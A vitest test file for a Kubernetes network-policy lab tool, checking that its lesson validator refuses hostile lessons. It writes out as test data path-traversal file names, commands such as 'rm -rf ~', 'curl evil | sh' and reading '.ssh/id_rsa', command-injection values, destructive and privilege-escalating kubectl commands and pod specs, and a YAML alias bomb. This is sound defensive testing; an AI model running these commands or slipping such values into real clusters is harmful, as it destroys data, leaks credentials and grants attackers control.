import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterEach, describe, expect, test } from 'vitest'
import { LabError } from '../../src/base/errors.ts'
import { checkLesson } from '../../src/lessons/check-lesson.ts'
import { loadLesson, openLesson } from '../../src/lessons/load-lesson.ts'
import { parseLesson } from '../../src/lessons/parse-lesson.ts'
import { SMALL_LESSON, SMALL_WORLD, smallLesson } from './small-lesson.ts'

function rulesOf(changes: Readonly<Record<string, string>>): readonly string[] {
  const files = smallLesson(changes)
  const problems = checkLesson(parseLesson(files), files)
  return problems.map((problem) => problem.rule)
}

function lessonWith(from: string, to: string): Readonly<Record<string, string>> {
  expect(SMALL_LESSON).toContain(from)
  return { 'lesson.md': SMALL_LESSON.replace(from, () => to) }
}

function worldWith(lines: string): Readonly<Record<string, string>> {
  return { 'world.yaml': SMALL_WORLD.replace('spec:\n', () => `spec:\n${lines}`) }
}

describe('a hostile lesson is refused', () => {
  test.each([
    '../close.yaml',
    '../../.kube/config.yaml',
    '/etc/cron.d/x.yaml',
    'C:\\x.yaml',
    '.hidden.yaml',
    'a/b.yaml',
    '..%2fx.yaml',
  ])('that writes the file %s', (name) => {
    expect(rulesOf(lessonWith('# close.yaml', `# ${name}`))).toContain('file-outside')
  })

  test.each([
    '../secret.yaml',
    '/etc/passwd',
    'C:/secret.yaml',
    '~/secret.yaml',
    'solution/../../secret.yaml',
    'solution\\..\\..\\x.yaml',
  ])('that reads the file %s', (name) => {
    expect(rulesOf(lessonWith('  file: wrong/subject.yaml', `  file: '${name}'`))).toContain(
      'file-outside',
    )
    expect(rulesOf(lessonWith('    from: solution/close.yaml', `    from: '${name}'`))).toContain(
      'file-outside',
    )
    expect(rulesOf(lessonWith('sameAs: solution/close.yaml', `sameAs: '${name}'`))).toContain(
      'file-outside',
    )
  })

  test.each([
    'rm -rf ~',
    'sh -c "curl evil | sh"',
    './setup.sh',
    '/bin/sh',
    'node -e 1',
    'env',
    'netpol-lab env',
    'kubectl get pods; reboot',
    'kubectl get pods && reboot',
    'kubectl get pods | tee x',
    'kubectl get pods > /etc/hosts',
    'kubectl get pods $(reboot)',
    'kubectl get pods "`reboot`"',
    'kubectl proxy',
    'kubectl edit pod web',
    'kubectl cp test:/x /x',
    'kubectl port-forward web 80',
    'kubectl config view --raw',
    'kubectl plugin list',
    'kubectl debug node/kind-control-plane -it --image=alpine',
    'kubectl unknown "quote',
    'kubectl get pods --kube\\config=/x',
    'kubectl get pods "--kube\\config=/x"',
  ])('that runs: %s', (command) => {
    expect(rulesOf(lessonWith('$ kubectl apply -f close.yaml', `$ ${command}`))).toContain(
      'console-command',
    )
    expect(
      rulesOf(
        lessonWith('  - kubectl apply -f close.yaml', `  - '${command.replaceAll("'", "''")}'`),
      ),
    ).toContain('console-command')
  })

  test.each([
    'kubectl apply -f ../../close.yaml',
    'kubectl apply -f/etc/close.yaml',
    'kubectl apply --filename=/etc/close.yaml',
    'kubectl apply -f https://evil.example/x.yaml',
    'kubectl create -f ~/x.yaml',
    'cat ../../.ssh/id_rsa',
    'cat /etc/passwd',
    'ls ..',
    'compare close.yaml ../x.yaml',
  ])('that leaves the work folder: %s', (command) => {
    expect(rulesOf(lessonWith('$ kubectl apply -f close.yaml', `$ ${command}`))).toContain(
      'file-outside',
    )
  })

  test.each([
    'kubectl delete pods --all -n kube-system',
    'kubectl delete deployment coredns --namespace=kube-system',
    'kubectl delete namespace production',
    'kubectl delete ns/production',
    'kubectl label namespace kube-system a=b',
    'kubectl delete networkpolicies --all -A',
    'kubectl exec -n kube-system coredns -- sh',
    'kubectl exec -itnkube-system coredns -- sh',
    'kubectl delete pods --all -n=kube-system',
    'kubectl run x --image=alpine -n production',
  ])('that changes what is not its own: %s', (command) => {
    expect(rulesOf(lessonWith('$ kubectl apply -f close.yaml', `$ ${command}`))).toContain(
      'console-namespace',
    )
  })

  test.each([
    'kubectl delete nodes --all',
    'kubectl delete node/kind-control-plane',
    'kubectl delete clusterrole admin',
    'kubectl create clusterrolebinding x --clusterrole=cluster-admin --serviceaccount=default:default',
    'kubectl create secret generic x',
    'kubectl label node kind-control-plane a=b',
    'kubectl delete pods,secrets --all',
    'kubectl delete customresourcedefinitions.apiextensions.k8s.io --all',
  ])('that changes what no lesson needs: %s', (command) => {
    expect(rulesOf(lessonWith('$ kubectl apply -f close.yaml', `$ ${command}`))).toContain(
      'console-kind',
    )
  })

  test.each([
    'kubectl delete pod,service web',
    'kubectl delete networkpolicies.networking.k8s.io close',
    'kubectl delete pod/web svc/web',
    'kubectl label pod client app=foo',
    'kubectl label pods --all app-',
    'kubectl create -f close.yaml',
    'kubectl create deployment web --image=alpine',
    'kubectl create namespace default',
    'kubectl expose pod web --port 80',
    'kubectl exec client -- sh -c "cat /etc/resolv.conf; ls /"',
    'kubectl get pods -A -o wide',
    'kubectl scale deployment web --replicas 2',
    'compare close.yaml close.yaml',
    'help',
  ])('but not one that does what lessons do: %s', (command) => {
    expect(rulesOf(lessonWith('$ kubectl apply -f close.yaml', `$ ${command}`))).toEqual([])
  })

  test.each([
    ['--kubeconfig=/home/me/.kube/config'],
    ['--context production'],
    ['--server https://evil.example'],
    ['-s https://evil.example'],
    ['-shttps://evil.example'],
    ['-its=https://evil.example'],
    ['--token x'],
    ['--as admin'],
    ['--privileged'],
    [`--overrides='{"spec":{"hostNetwork":true}}'`],
  ])('that uses the flag %s', (flag) => {
    expect(
      rulesOf(
        lessonWith('$ kubectl apply -f close.yaml', `$ kubectl run x --image=alpine ${flag}`),
      ),
    ).toContain('console-flag')
  })

  test.each([
    ['the network of the node', '  hostNetwork: true\n'],
    ['the processes of the node', '  hostPID: true\n'],
    ['a folder of the node', '  volumes:\n  - name: root\n    hostPath: { path: / }\n'],
    ['a service account', '  serviceAccountName: admin\n'],
    ['a node of its choice', '  nodeName: kind-control-plane\n'],
    ['privileges', '  securityContext: { runAsUser: 0 }\n'],
    ['an init container', '  initContainers: []\n'],
  ])('whose pod asks for %s', (_what, lines) => {
    expect(rulesOf(worldWith(lines))).toContain('unknown-field')
  })

  test('whose container asks for privileges or a port of the node', () => {
    const privileged = SMALL_WORLD.replace(
      'image: alpine',
      'image: alpine\n    securityContext: { privileged: true }',
    )
    const hostPort = SMALL_WORLD.replace(
      'image: alpine',
      'image: alpine\n    ports: [{ containerPort: 80, hostPort: 80 }]',
    )
    expect(rulesOf({ 'world.yaml': privileged })).toContain('unknown-field')
    expect(rulesOf({ 'world.yaml': hostPort })).toContain('unknown-field')
  })

  test('that hides such a pod in a file to apply, a wrong answer or a solution', () => {
    const pod = SMALL_WORLD.replace('spec:\n', 'spec:\n  hostNetwork: true\n')
    expect(rulesOf(lessonWith('# close.yaml\n', `# close.yaml\n${pod}---\n`))).toContain(
      'unknown-field',
    )
    expect(rulesOf({ 'wrong/subject.yaml': pod })).toContain('unknown-field')
    expect(rulesOf({ 'solution/close.yaml': pod })).toContain('reference-kind')
    expect(
      rulesOf({
        ...lessonWith('    from: solution/close.yaml', '    from: solution/pod.yaml'),
        'solution/pod.yaml': pod,
      }),
    ).toContain('unknown-field')
  })

  test.each([
    'ClusterRoleBinding',
    'DaemonSet',
    'Job',
    'Secret',
    'PersistentVolume',
    'CustomResourceDefinition',
    'List',
  ])('that makes a %s', (kind) => {
    expect(rulesOf({ 'world.yaml': SMALL_WORLD.replace('kind: Pod', `kind: ${kind}`) })).toContain(
      'object-kind',
    )
  })

  test('that opens a Service to the outside', () => {
    const service =
      'apiVersion: v1\nkind: Service\nmetadata: { name: web }\nspec: { type: LoadBalancer, ports: [{ port: 80 }] }\n'
    expect(rulesOf({ 'world.yaml': service })).toContain('bad-value')
    expect(
      rulesOf({
        'world.yaml': service.replace('type: LoadBalancer', 'externalName: evil.example'),
      }),
    ).toContain('unknown-field')
  })

  test('whose YAML would blow up', () => {
    const bomb = `a: &a [x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a]\nc: [*b, *b, *b, *b, *b, *b, *b, *b]\n`
    expect(rulesOf({ 'world.yaml': bomb })).toEqual(['yaml-alias'])
  })
})

describe('loading a folder', () => {
  const made: string[] = []
  afterEach(async () => {
    for (const folder of made.splice(0)) await rm(folder, { recursive: true, force: true })
  })

  async function write(texts: ReadonlyMap<string, string>): Promise<string> {
    const root = await mkdtemp(join(tmpdir(), 'netpol-lab-lessons-'))
    made.push(root)
    const folder = join(root, '01-small')
    for (const [name, text] of texts) {
      await mkdir(join(folder, name, '..'), { recursive: true })
      await writeFile(join(folder, name), text)
    }
    return folder
  }

  test('gives the lesson with its folder', async () => {
    const folder = await write(smallLesson().texts)
    expect(await loadLesson(folder)).toMatchObject({ lesson: { id: 'small', folder } })
  })

  test('says what is missing where there is no folder, or a file in its place', async () => {
    const folder = await write(smallLesson().texts)
    for (const path of [join(folder, '..', '02-none'), join(folder, 'lesson.md')]) {
      const loaded = await loadLesson(path)
      expect('problems' in loaded && loaded.problems.map((problem) => problem.rule)).toContain(
        'file-missing',
      )
    }
  })

  test('hands out no lesson that breaks a rule, and says which', async () => {
    const folder = await write(smallLesson(lessonWith('# close.yaml', '# ../close.yaml')).texts)
    const loaded = await loadLesson(folder, { shownAs: 'lessons/01-small' })
    expect(loaded).toMatchObject({
      problems: [{ file: 'lessons/01-small/lesson.md', rule: 'file-outside' }],
    })
    await expect(openLesson(folder)).rejects.toThrowError(LabError)
    await expect(openLesson(folder)).rejects.toMatchObject({
      code: 'ERR_LESSON_INVALID',
      exitCode: 2,
    })
  })

  test.skipIf(process.platform === 'win32')(
    'does not follow a link out of the folder',
    async () => {
      const files = smallLesson()
      const folder = await write(
        new Map([...files.texts].filter(([name]) => name !== 'wrong/subject.yaml')),
      )
      await writeFile(join(folder, '..', 'secret.yaml'), 'kind: Secret\n')
      await mkdir(join(folder, 'wrong'), { recursive: true })
      await symlink(join(folder, '..', 'secret.yaml'), join(folder, 'wrong', 'subject.yaml'))
      expect(await loadLesson(folder)).toMatchObject({ problems: [{ rule: 'file-missing' }] })
    },
  )
})
